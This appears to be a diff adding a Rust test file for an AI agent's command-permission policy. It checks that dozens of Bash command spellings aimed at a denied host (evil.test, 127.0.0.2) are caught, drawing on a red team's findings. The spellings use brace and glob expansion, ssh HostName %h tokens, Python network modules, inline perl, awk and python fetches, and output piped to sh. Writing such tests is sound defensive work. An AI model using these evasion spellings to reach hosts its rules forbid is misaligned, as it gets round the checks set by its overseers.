@@ -1,0 +1,285 @@
+//! Tenth round, network: the hosts Bash commands reach, against the
+//! `WebFetch(domain:…)` rules (the red team's findings 2 to 7 and 9 to 11),
+//! and the commands refused for a host they only send text about (F1 to
+//! F3). Each row is a spelling of its class; the same commands naming an
+//! allowed host stay allowed.
+
+use tack_policy::Verdict::{Allow, Ask, Deny};
+
+use crate::support::{case, run, run_with_files};
+
+const B: &str = "Bash";
+
+/// The red team's rules: the listener's address and a name mapped to it.
+const NET: &[&str] = &[
+    "allow Bash",
+    "deny WebFetch(domain:127.0.0.2)",
+    "deny WebFetch(domain:evil.test)",
+];
+
+// Finding 2: a URL or host word bash expands (braces, a pathname pattern)
+// reaches what bash makes of it.
+#[test]
+fn brace_and_glob_expansions_name_hosts() {
+    run(&[
+        case(NET, B, "curl -s http://127.0.0.{2,3}:8099/brace", Deny),
+        case(NET, B, "curl -s http://127.0.0.{1..2}:8099/seq", Deny),
+        case(NET, B, "curl -s http://127.0.{0..0}.2:8099/b3", Deny),
+        case(NET, B, "git ls-remote http://127.0.0.{2,3}:8099/r", Deny),
+        case(NET, B, "curl -s http://evil.tes{t,}/", Deny),
+        case(NET, B, "git clone https://evil.te{st,xt}/r", Deny),
+        case(
+            NET,
+            B,
+            "python3 -m pip download --index-url http://127.0.0.{2,3}:8099/simple x",
+            Deny,
+        ),
+        case(
+            NET,
+            B,
+            "npm view x --registry http://127.0.0.{2,3}:8099/",
+            Deny,
+        ),
+        case(NET, B, "curl -s http://{ok,evil}.{x,test}/", Deny),
+        case(NET, B, "curl -s http://127.0.0.{1..3}:8099/", Deny),
+        case(NET, B, "curl -s http://127.0.0.{1..3..2}:8099/", Allow),
+        case(NET, B, "curl -s http://127.0.0.{1..300}/", Ask),
+        case(NET, B, "curl -s http://127.0.0.{2,3}\"/x\"", Ask),
+        case(
+            NET,
+            B,
+            "mkdir -p h/127.0.0.2:8099 && mv h http: && curl -s http://127.0.0.?:8099/",
+            Ask,
+        ),
+        case(NET, B, "ssh -o BatchMode=yes 127.0.0.? true", Ask),
+        case(NET, B, "git ls-remote 127.0.0.?:r", Ask),
+        case(NET, B, "curl -s http://ok.tes*/", Ask),
+        // Braces and patterns elsewhere than the host.
+        case(NET, B, "curl -s http://ok.test/{a,b}.html", Allow),
+        case(NET, B, "curl -s http://ok.{test,example}/", Allow),
+        case(NET, B, "curl -s http://127.0.0.{1,3}:8099/", Allow),
+        case(NET, B, "git ls-remote ok.test:r*", Allow),
+        case(NET, B, "cp src/main.rs{,.bak}", Allow),
+        case(NET, B, "ssh ok.test 'ls *'", Allow),
+    ]);
+}
+
+// Finding 7: `%h` in ssh's `HostName` is the destination as written.
+#[test]
+fn ssh_hostname_tokens_take_the_written_destination() {
+    run(&[
+        case(
+            NET,
+            B,
+            "ssh -o BatchMode=yes -o Hostname=127.0.0.%h 2 true",
+            Deny,
+        ),
+        case(NET, B, "ssh -o Hostname=127.%h 2 true", Deny),
+        case(NET, B, "ssh -o Hostname=%h.0.0.2 127 true", Deny),
+        case(NET, B, "ssh -o Hostname=127.0.%h 0.2 true", Deny),
+        case(NET, B, "ssh -o Hostname=127.0.0.%h user@02 true", Deny),
+        case(NET, B, "ssh -o Hostname=evi%h ssh://u@l.test:22 true", Deny),
+        case(NET, B, "scp -o Hostname=127.0.0.%h f 2:", Deny),
+        case(NET, B, "ssh -o Hostname=evi%h l.test true", Deny),
+        case(NET, B, "ssh -o Hostname=%h.test ok true", Allow),
+        case(NET, B, "ssh -o Hostname=127.0.0.%h 3 true", Allow),
+    ]);
+}
+
+// Finding 11: the standard library's network clients, and resolver
+// lookups.
+#[test]
+fn python_network_modules_and_lookups_reach_their_host() {
+    run(&[
+        case(
+            NET,
+            B,
+            "echo | python3 -W ignore -m telnetlib 127.0.0.2 8099",
+            Deny,
+        ),
+        case(NET, B, "python3 -m ftplib 127.0.0.2", Deny),
+        case(NET, B, "python3 -m ftplib -d evil.test", Deny),
+        case(NET, B, "python3 -m poplib evil.test u p", Deny),
+        case(NET, B, "python3 -m imaplib 127.0.0.2", Deny),
+        case(NET, B, "python -m nntplib -s evil.test", Deny),
+        case(NET, B, "python3 -m telnetlib \"$H\" 80", Ask),
+        case(NET, B, "getent hosts evil.test", Deny),
+        case(NET, B, "getent ahostsv4 ok.test evil.test", Deny),
+        case(NET, B, "resolvectl query evil.test", Deny),
+        case(NET, B, "python3 -m telnetlib ok.test 80", Allow),
+        case(NET, B, "getent hosts ok.test", Allow),
+        case(NET, B, "getent passwd evil", Allow),
+        case(NET, B, "resolvectl status", Allow),
+    ]);
+}
+
+// F1: headers and data sent to an allowed host name no host reached.
+#[test]
+fn headers_and_data_items_are_text() {
+    run(&[
+        case(
+            NET,
+            B,
+            "curl -H \"Origin: https://evil.test\" https://ok.test/",
+            Allow,
+        ),
+        case(
+            NET,
+            B,
+            "curl -H \"Referer: https://evil.test/\" https://ok.test/",
+            Allow,
+        ),
+        case(
+            NET,
+            B,
+            "curl -sH 'Origin: https://evil.test' https://ok.test/",
+            Allow,
+        ),
+        case(
+            NET,
+            B,
+            "curl --header='Origin: https://evil.test' https://ok.test/",
+            Allow,
+        ),
+        case(
+            NET,
+            B,
+            "curl -A \"bot (+https://evil.test/bot)\" https://ok.test/",
+            Allow,
+        ),
+        case(
+            NET,
+            B,
+            "wget -qO- --header=\"Origin: https://evil.test\" https://ok.test/",
+            Allow,
+        ),
+        case(
+            NET,
+            B,
+            "http POST https://ok.test/ url=https://evil.test",
+            Allow,
+        ),
+        case(
+            NET,
+            B,
+            "http https://ok.test/ Origin:https://evil.test",
+            Allow,
+        ),
+        case(NET, B, "xh ok.test/ url==https://evil.test", Allow),
+        // The URL itself, and a proxy, are still reached.
+        case(
+            NET,
+            B,
+            "curl -H 'Origin: https://ok.test' https://evil.test/",
+            Deny,
+        ),
+        case(
+            NET,
+            B,
+            "http POST https://evil.test/ url=https://ok.test",
+            Deny,
+        ),
+        case(
+            NET,
+            B,
+            "http --proxy http:http://evil.test:3128 ok.test/",
+            Deny,
+        ),
+        case(
+            NET,
+            B,
+            "curl -H 'X: y' -x evil.test:3128 https://ok.test/",
+            Deny,
+        ),
+    ]);
+}
+
+// F2: a URL in inline code that only matches or rewrites text.
+#[test]
+fn urls_in_inert_inline_code_are_text() {
+    run(&[
+        case(
+            NET,
+            B,
+            "perl -pe 's{http://evil.test}{https://ok.test}g' README.md",
+            Allow,
+        ),
+        case(
+            NET,
+            B,
+            "perl -ne 'print if m{https://evil.test}' access.log",
+            Allow,
+        ),
+        case(
+            NET,
+            B,
+            "awk '{gsub(\"http://evil.test\",\"https://ok.test\")}1' f",
+            Allow,
+        ),
+        case(
+            NET,
+            B,
+            "python3 -c 'print(\"https://evil.test\".upper())'",
+            Allow,
+        ),
+        // Code that can act reaches what it names.
+        case(
+            NET,
+            B,
+            "perl -MLWP::Simple -e 'getprint(\"http://evil.test\")'",
+            Deny,
+        ),
+        case(NET, B, "perl -e 'system(\"curl http://evil.test\")'", Deny),
+        case(
+            NET,
+            B,
+            "python3 -c 'import urllib.request; urllib.request.urlopen(\"http://evil.test\")'",
+            Deny,
+        ),
+        case(
+            NET,
+            B,
+            "awk 'BEGIN{system(\"curl http://evil.test\")}'",
+            Deny,
+        ),
+        case(
+            NET,
+            B,
+            "perl -e 'print \"curl http://evil.test\"' | sh",
+            Deny,
+        ),
+    ]);
+}
+
+// F3: a listening address, and the name sent in TLS.
+#[test]
+fn listening_addresses_and_tls_names_are_no_hosts_reached() {
+    run(&[
+        case(NET, B, "php -S 127.0.0.2:8099", Allow),
+        case(NET, B, "php -S 127.0.0.2:8099 -t public", Allow),
+        case(
+            NET,
+            B,
+            "openssl s_client -connect ok.test:443 -servername evil.test",
+            Allow,
+        ),
+        case(
+            NET,
+            B,
+            "openssl s_client -connect evil.test:443 -servername ok.test",
+            Deny,
+        ),
+        case(
+            NET,
+            B,
+            "openssl s_client -servername ok.test evil.test:443",
+            Deny,
+        ),
+        case(
+            NET,
+            B,
+            "php -r 'file_get_contents(\"http://evil.test\");'",
+            Deny,
+        ),
+    ]);
+}
